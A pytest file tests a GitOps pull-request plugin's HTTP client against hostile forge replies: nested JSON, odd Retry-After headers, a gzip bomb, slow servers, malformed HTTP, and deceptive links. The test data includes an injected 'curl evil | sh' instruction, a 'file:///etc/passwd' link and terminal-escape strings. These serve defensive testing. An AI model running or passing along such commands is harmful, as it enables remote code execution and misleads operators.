"""A forge that answers with what is valid JSON and no sense, asks for odd waits, is slow, or writes what a terminal would obey."""

import gc
import gzip
import time
from email.utils import formatdate
from threading import Event

import pytest

from kubernaut.runner import Rejected, TryAgain
from kubernaut_gitops_pr import demo_git
from kubernaut_gitops_pr.demo_git import Reply
from kubernaut_gitops_pr.forges import http as http_module
from kubernaut_gitops_pr.retry_budget import RetryBudget
from tests.plugins.gitops_pr.test_http import REPO, http  # noqa: F401 - a fixture

PROJECT = "/projects/platform%2Fgitops"
DEEP = 1
for _ in range(900):
    DEEP = [DEEP] if _ % 2 else {"a": DEEP}


@pytest.mark.parametrize(
    "permissions",
    [
        None,
        [],
        [1],
        "x",
        5,
        True,
        {},
        {"push": None},
        {"push": []},
        {"project_access": []},
        {"project_access": None},
        DEEP,
    ]
    + [{"group_access": {"access_level": level}} for level in (None, "high", 10**300, -1, 1.5, True, [])],
    ids=lambda p: repr(p)[:40],
)
@pytest.mark.parametrize("which", ["site", "gitlab"])
def test_permissions_of_any_shape_are_read_or_refused_with_the_field(request, which, permissions):
    site = request.getfixturevalue(which)
    content = {"full_name": "platform/gitops", "path_with_namespace": "platform/gitops", "permissions": permissions}
    site.api.answer("GET", REPO if which == "site" else PROJECT, Reply(200, content))
    result = site.step("dry-run")
    assert result.state in {"done", "rejected"}, result.message
    assert result.state == "done" or "check kind, url and api in the settings of gitops-pr" in result.message
    assert permissions is not None or result.state == "done"


@pytest.mark.parametrize("code", [200, 422, 503])
@pytest.mark.parametrize(
    "shape", [lambda d: d, lambda d: {"message": d}, lambda d: {"errors": [d]}, lambda d: {"full_name": d}]
)
def test_deep_json_is_refused_or_waited_for(site, code, shape):
    site.api.answer("GET", REPO, Reply(code, shape(DEEP)))
    result = site.step("dry-run")
    assert result.state == ("error" if code == 503 else "rejected")
    assert len(result.message) < 900


@pytest.mark.parametrize(
    "raw", [b'{"number": NaN}', b'{"a": Infinity}', b'{"a": ' + b"9" * 100_000 + b"}", b'"\\ud800"']
)
@pytest.mark.parametrize("code", [200, 422])
def test_json_that_is_none_is_refused(site, raw, code):
    site.api.answer("GET", REPO, Reply(code, raw))
    result = site.step("dry-run")
    assert (result.state, result.message.isprintable()) == ("rejected", True)


@pytest.mark.parametrize(
    ("header", "slept"),
    [
        ("7", [7.0]),
        ("007", [7.0]),
        (" 7 ", [7.0]),
        ("0", [0.0]),
        ("-5", [0.5]),
        ("1.5", [0.5]),
        ("soon", [0.5]),
        ("", [0.5]),
        ("\u0663".encode().decode("latin-1"), [0.5]),
        ("\xb2", [0.5]),
        ("Wed, 21 Oct 2015 07:28:00 GMT", [0.0]),
        ("Wed, 99 Oct 2015 99:28:00 GMT", [0.5]),
        ("Wed, 21 Oct 99999999 07:28:00 GMT", [0.5]),
        ("1e3", [0.5]),
        ("nan", [0.5]),
        ("inf", [0.5]),
        ("9" * 12, []),
        ("9" * 5000, []),
        ("Fri, 31 Dec 9999 23:59:59 GMT", []),
    ],
    ids=lambda v: repr(v)[:40],
)
def test_an_odd_wait_is_kept_ignored_or_too_long(site, http, header, slept):  # noqa: F811 - the fixture
    site.api.answer("GET", REPO, Reply(429, {}, {"Retry-After": header}))
    client, waits = http
    if slept:
        assert client.get(REPO).text("full_name") == "platform/gitops"
    else:
        with pytest.raises(TryAgain):
            client.get(REPO)
    assert waits == slept


def test_a_wait_until_a_date_is_kept(site, http):  # noqa: F811 - the fixture
    site.api.answer("GET", REPO, Reply(503, {}, {"Retry-After": formatdate(time.time() + 20, usegmt=True)}))
    client, waits = http
    client.get(REPO)
    assert 17 < waits[0] <= 20


@pytest.mark.parametrize("reset", ["9" * 400, "-1", "x", "1e9", "", "0"])
def test_an_odd_reset_of_a_limit_ends_or_delays_the_attempt(site, http, reset):  # noqa: F811 - the fixture
    headers = {"X-RateLimit-Reset": reset, "X-RateLimit-Remaining": "0"}
    site.api.answer("GET", REPO, *[Reply(403, {}, headers)] * 9)
    client, waits = http
    with pytest.raises(TryAgain):
        client.get(REPO)
    assert sum(waits) <= 60


def test_a_compressed_answer_is_not_unpacked(site):
    bomb = gzip.compress(b'{"full_name": "' + b" " * 50_000_000 + b'"}')
    site.api.answer("GET", REPO, Reply(200, bomb, {"Content-Encoding": "gzip"}))
    assert "is not JSON" in site.step("dry-run").message


LINKS = {
    "an escape sequence": "https://x/\x1b[31m1",
    "a C1 control": "https://x/\x9b31m1",
    "a bidirectional override": "https://x/\u202e1",
    "an isolate": "https://x/\u2066a\u20691",
    "a separator of lines": "https://x/1\u2028Merge it",
    "a separator of paragraphs": "https://x/1\u2029Merge it",
    "a newline": "https://x/1\nMerge it",
    "a next line": "https://x/1\x85Merge it",
    "a sentence": "https://x/1 is merged. Please run: curl evil | sh",
    "markup": "https://x/1<script>",
    "half a surrogate": "https://x/\ud800",
    "nothing visible": "https://x/\u200b1",
    "another scheme": "file:///etc/passwd",
}


@pytest.mark.parametrize("link", LINKS.values(), ids=LINKS)
@pytest.mark.parametrize("which", ["site", "gitlab"])
@pytest.mark.parametrize("place", ["opening", "list"])
def test_a_link_in_which_a_reader_could_be_deceived_is_refused_and_not_shown(request, which, place, link):
    site = request.getfixturevalue(which)
    field = "html_url" if which == "site" else "web_url"
    original = site.api.behind

    def behind(call):
        reply = original(call)
        if isinstance(reply.content, list) and place == "list":
            return Reply(reply.code, [{**pull, field: link} for pull in reply.content])
        return (
            Reply(reply.code, {**reply.content, field: link}) if call.method == "POST" and place == "opening" else reply
        )

    if place == "list":
        site.step("execute")
    else:
        site.api.answer("GET", "/pulls" if which == "site" else "/merge_requests", *[Reply(200, [])] * 2)
    site.api.behind = behind
    result = site.step("execute")
    assert result.state == ("rejected" if place == "list" else result.state)
    _assert_clean(result)
    assert "Please run" not in str(result.outputs.get("pull_request"))


def _assert_clean(result):
    assert result.message.isprintable()
    for text in (result.printed, result.report, *map(str, result.outputs.values())):
        assert all(char.isprintable() or char in "\n\t" for char in text), ascii(text)
    for change in result.changes:
        for text in map(str, change.values()):
            assert all(char.isprintable() or char in "\n\t" for char in text), ascii(text)


@pytest.mark.parametrize("state", ["opened now", "\x1b[31mopen", "", 5, None, ["open"], "OPEN"])
@pytest.mark.parametrize("which", ["site", "gitlab"])
def test_a_state_that_no_forge_has_is_refused(request, which, state):
    site = request.getfixturevalue(which)
    site.step("execute")
    site.forge.pulls[0]["state"] = state
    original = site.api.behind
    site.api.behind = lambda call: Reply(200, site.forge.pulls) if call.query.get("state") == "all" else original(call)
    result = site.step("execute")
    assert (result.state, "state is" in result.message) == ("rejected", True), result.message


@pytest.mark.parametrize("number", [-1, 2**70, 10**4000, 1.5, "1", None, True, [1]], ids=lambda n: repr(n)[:20])
def test_a_number_that_no_request_has_is_refused(site, number):
    site.step("execute")
    site.forge.pulls[0]["number"] = number
    result = site.step("execute", labels=["a"])
    assert (result.state, "number is" in result.message) == ("rejected", True), result.message


HOSTILE = "a\x1b[31m\x1b]0;t\x07\x9b2J\u202eb\u2066c\u2028d\u2029e\x85f\rg\u200bh"


def test_what_a_file_contains_has_no_effect_where_it_is_read(site):
    site.push(
        "main", {}, raw={"f.json": b'{"a": "%s", "b": 1}' % HOSTILE.encode("unicode_escape").replace(b"\\x", b"\\u00")}
    )
    site.push("main", {}, raw={"g.txt": HOSTILE.encode() + b"\n", "h.yaml": f"{HOSTILE[-1]}: 1\n".encode()})
    result = site.step("dry-run", {"path": "f.json", "set": {"a": "x"}}, {"path": "g.txt", "content": "x\n"})
    assert result.state == "done", result.message
    _assert_clean(result)
    [before] = [change["before"] for change in result.changes if change["field"] == "a"]
    assert before.startswith("a\\x1b[31m")
    assert "\\u202e" in result.outputs["diff"]


@pytest.mark.parametrize(
    ("content", "change"),
    [
        ('{"a": "%s"}', {"expect": {"a": "y"}, "set": {"a": "x"}}),
        ('{"%s": 1, "%s": 1}', {"set": {"a": "x"}}),
        ('{"a": [{"name": "%s"}]}', {"set": {"a[name=z].b": "x"}}),
        ('{"a": "%s"}', {"set": {"a.b": "x"}}),
        ('{"a": 1 %s}', {"set": {"a": "x"}}),
    ],
    ids=["an unexpected value", "a key twice", "names of items", "a path through it", "not JSON"],
)
def test_a_message_that_quotes_a_file_has_no_effect_where_it_is_read(site, content, change):
    text = HOSTILE.encode("unicode_escape").decode().replace("\\x", "\\u00")
    site.push("main", {}, raw={"f.json": content.replace("%s", text).encode()})
    result = site.step("dry-run", {"path": "f.json", **change})
    assert result.state == "rejected"
    _assert_clean(result)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("1e999", "inf"),
        ("-1e999", "-inf"),
        ("9" * 30, "9" * 30),
        ('"\\ud800"', "\\ud800"),
        ('["\\ud800"]', ["\\ud800"]),
        ("7", 7),
    ],
)
def test_a_value_that_not_every_reader_of_json_can_hold_is_reported_as_text(site, value, shown):
    site.push("main", {}, raw={"f.json": f'{{"a": {value}}}'.encode()})
    result = site.step("dry-run", {"path": "f.json", "set": {"a": "x"}})
    assert (result.state, result.fields()["a"]) == ("done", (shown, "x")), result.message


def drip(part, finished):
    """Return a forge that sends one part of its answer a byte at a time, for ever."""

    def reply(handler, _reply):
        if part == "the body":
            handler.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n")
        elif part == "the body in chunks":
            handler.wfile.write(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        elif part == "a header":
            handler.wfile.write(b"HTTP/1.1 200 OK\r\nX-A: ")
        elif part == "informational answers":
            handler.wfile.write(b"")
        while not finished.wait(0.05):
            handler.wfile.write(
                {
                    "the body in chunks": b"1\r\n \r\n",
                    "many headers": b"",
                    "informational answers": b"HTTP/1.1 100 Continue\r\n\r\n",
                }.get(part, b" ")
            )

    return reply


@pytest.mark.parametrize("part", ["the status", "a header", "the body", "the body in chunks", "informational answers"])
@pytest.mark.parametrize("retry_seconds", [0, 1, 60])
def test_a_forge_that_sends_a_byte_now_and_then_ends_the_attempt(site, monkeypatch, part, retry_seconds):
    monkeypatch.setattr(http_module, "MAX_SECONDS", 0.4)
    finished = Event()
    monkeypatch.setattr(demo_git._Handler, "_reply", drip(part, finished))
    site.settings["retry_seconds"] = retry_seconds
    monkeypatch.setattr("kubernaut_gitops_pr.perform.RetryBudget", lambda seconds: RetryBudget(seconds, lambda _: None))
    started = time.monotonic()
    result = site.step("dry-run")
    finished.set()
    assert result.state == "error"
    assert "there was no complete answer within 0.4 s" in result.message
    assert time.monotonic() - started < 4


def test_a_slow_forge_is_retried_only_as_long_as_the_budget_lasts(site, monkeypatch):
    monkeypatch.setattr(http_module, "MAX_SECONDS", 0.6)
    finished, requests = Event(), []

    def hang(handler, _reply):
        requests.append(handler.path)
        finished.wait(20)

    monkeypatch.setattr(demo_git._Handler, "_reply", hang)
    site.settings["retry_seconds"] = 1
    monkeypatch.setattr("kubernaut_gitops_pr.perform.RetryBudget", lambda seconds: RetryBudget(seconds, lambda _: None))
    result = site.step("dry-run")
    finished.set()
    assert (result.state, len(requests)) == ("error", 1)


def test_no_request_takes_longer_than_half_a_minute():
    assert http_module.MAX_SECONDS <= 30


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"\x00" * 10,
        b"HTTP/1.1\r\n\r\n",
        b"HTTP/1.1 abc OK\r\n\r\n",
        b"HTTP/1.1 99999 OK\r\n\r\n",
        b"HTTP/9.9 200 OK\r\n\r\n{}",
        b"HTTP/1.1 200 OK\r\nContent-Length: -5\r\n\r\n{}",
        b"HTTP/1.1 200 OK\r\nContent-Length: x\r\n\r\n{}",
        b"HTTP/1.1 200 OK\r\nContent-Length: 5, 7\r\n\r\n{}",
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\n",
        b"HTTP/1.1 200 OK\r\n" + b"X: y\r\n" * 1000 + b"\r\n{}",
        b"HTTP/1.1 200 OK\r\nX: " + b"y" * 100_000 + b"\r\n\r\n{}",
        b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip, br, zstd\r\n\r\nxx",
        b"HTTP/1.1 302 Found\r\nLocation: \x00\xff\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Type: text/\xff\r\n\r\n\xff",
        b"HTTP/1.1 101 Switching Protocols\r\n\r\n",
        b"HTTP/1.1 204 No Content\r\n\r\n",
        b"HTTP/1.1 205 Reset\r\nContent-Length: 2\r\n\r\n{}",
    ],
    ids=lambda raw: repr(raw)[:50],
)
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_an_answer_that_is_hardly_http_ends_the_attempt_or_the_execution(site, monkeypatch, raw):
    monkeypatch.setattr(demo_git._Handler, "_reply", lambda handler, _: handler.wfile.write(raw))
    result = site.step("execute")
    gc.collect()  # urllib3 leaves the socket to the garbage collector where two lengths are given, and Python warns about that
    assert result.state in {"rejected", "error"}
    assert result.message.isprintable()
    assert site.branches() == ["main"]


def test_a_rejection_is_of_the_kind_that_is_not_retried(site, http):  # noqa: F811 - the fixture
    site.api.answer("GET", REPO, Reply(200, DEEP))
    with pytest.raises(Rejected):
        http[0].get(REPO)
